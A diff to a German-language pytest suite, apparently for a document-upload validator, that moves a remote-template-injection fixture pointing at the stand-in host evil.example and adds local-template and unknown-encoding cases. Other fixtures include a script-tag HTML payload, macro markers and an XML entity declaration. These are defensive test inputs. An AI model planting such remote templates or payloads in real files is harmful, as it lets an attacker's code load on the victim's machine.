@@ -23,6 +23,18 @@ def ablehnung(tmp_path, name, inhalt) -> str:
     return str(gefangen.value)
 
 
+FERNVORLAGE = (
+    '<Relationships><Relationship Target="https://evil.example/x.dotm" TargetMode="External" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+HAUSVORLAGE = (
+    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    'attachedTemplate" Target="file:///C:\\\\Vorlagen\\\\Brief.dotx" TargetMode="External"/><Relationship Type="http://'
+    'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://so.ch"/></Relationships>'
+)
+UNBEKANNT = '<?xml version="1.0" encoding="klingonisch"?><a/>'
+
+
 # --- Accepted -------------------------------------------------------------------------------------
 
 
@@ -31,6 +43,7 @@ def ablehnung(tmp_path, name, inhalt) -> str:
     [
         ("Budget 2027.pdf", make_pdf(3), "pdf", 3),
         ("Brief.docx", make_paket("docx"), "docx", None),
+        ("Vorlage.docx", make_paket("docx", rels=HAUSVORLAGE), "docx", None),
         ("Zahlen.XLSX", make_paket("xlsx"), "xlsx", None),
         ("Folien.pptx", make_paket("pptx", dazu={"ppt/embeddings/Diagramm1.xlsx": make_paket("xlsx")}), "pptx", None),
         ("Text.odt", make_paket("odt"), "odt", None),
@@ -120,10 +133,6 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096
 HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
 MAKRO = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
 VERSCHLUESSELTES_ODT = "<manifest><encryption-data/></manifest>"
-FERNVORLAGE = (
-    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-    'attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
-)
 
 
 @pytest.mark.parametrize(
@@ -166,6 +175,7 @@ FERNVORLAGE = (
         ("a.odt", make_paket(), "«a.odt» ist keine ODT-Datei"),
         ("a.docx", make_paket(hauptteil="<a><b></a>"), "«a.docx» ist beschädigt"),
         ("a.docx", make_paket(hauptteil='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "«a.docx» ist kein gewöhnliches"),
+        ("a.docx", make_paket(hauptteil=UNBEKANNT), "«a.docx» ist beschädigt"),
         ("a.docx", make_paket(dazu={"word/vbaProject.bin": b"x"}), "«a.docx» enthält Makros"),
         ("a.docx", make_paket(typen=MAKRO), "«a.docx» enthält Makros"),
         ("a.odt", make_paket("odt", dazu={"Basic/Standard/M.xml": b"<a/>"}), "«a.odt» enthält Makros"),
